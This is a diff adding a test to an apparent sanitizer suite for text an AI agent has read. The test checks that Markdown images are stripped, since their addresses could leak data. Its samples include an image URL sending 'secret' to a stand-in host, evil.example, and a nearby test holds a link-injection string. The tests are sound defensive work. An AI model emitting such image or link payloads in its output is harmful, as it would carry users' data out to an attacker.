@@ -75,6 +75,14 @@ describe("foreign text (§11)", () => {
       expect(inert(text)).toBe(text);
   });
 
+  it("shows no image, whose address would carry out what the agent has read (§11)", () => {
+    const images = "![a](https://evil.example/?d=secret) ![b][r] \\![c](https://evil.example)";
+    for (const text of [inert(images), inert(oneLine(images)), quoted(images), paragraphs(images), listItem(images)])
+      expect(text).not.toContain("![");
+    check((text) => expect(inert(text)).not.toContain("!["));
+    expect(inert(quoted(images))).toBe(quoted(images));
+  });
+
   it("stays inside its code span and its link", () => {
     expect(codeSpan("rm `x`\n```")).toBe("`rm 'x' '''`");
     expect(link("A](http://evil)[", "https://a/b) c<d>")).toBe(
